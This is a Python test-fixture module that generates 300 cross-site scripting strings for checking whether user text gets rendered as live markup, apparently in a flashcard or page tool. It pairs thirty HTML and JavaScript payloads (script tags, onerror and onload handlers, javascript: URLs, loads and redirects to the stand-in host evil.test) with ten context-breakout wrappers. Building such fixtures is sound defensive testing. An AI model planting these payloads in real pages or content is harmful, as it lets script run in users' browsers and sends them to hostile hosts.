"""Texts that try to become more than text, on a page, on a card or in a file.

Where one is taken for markup, it sets off an alert or asks a network for something.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

SIGN = "window.packcWasHere"
"""What a test looks for: it is set wherever one of the texts ran."""

_RUN = "(window.packcWasHere=1,alert(1))"
_MARKUP = (
    "<script>RUN</script>",
    "<ScRiPt >RUN</sCrIpT >",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=RUN>",
    "<img src=//evil.test/x.png>",
    "<svg onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<math><mtext><img src=x onerror=RUN></mtext></math>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src=javascript:RUN></iframe>",
    "<object data=//evil.test/x></object>",
    "<embed src=//evil.test/x>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css'</style>",
    "<style>*{background:url(//evil.test/x.png)}</style>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<body onload=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<input autofocus onfocus=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<a href=javascript:RUN>x</a>",
    "<form action=//evil.test/><button>x</button></form>",
    "<template><script>RUN</script></template>",
    "<!--><img src=x onerror=RUN>-->",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "<?xml-stylesheet href=//evil.test/x.css?><img src=x onerror=RUN>",
)
_AROUND = (  # how a text may leave what it stands in
    "IT",
    '">IT',
    "'>IT",
    "-->IT",
    "]]>IT",
    "</p></div></body>IT",
    "</script></style></textarea></title>IT",
    "}}{{c1::IT}}",
    "\\(IT\\)",
    "&lt;IT&#60;IT",
)


def injections() -> Iterator[str]:
    """Yield 300 texts, each once."""
    for markup, around in product(_MARKUP, _AROUND):
        yield around.replace("IT", markup.replace("RUN", _RUN))
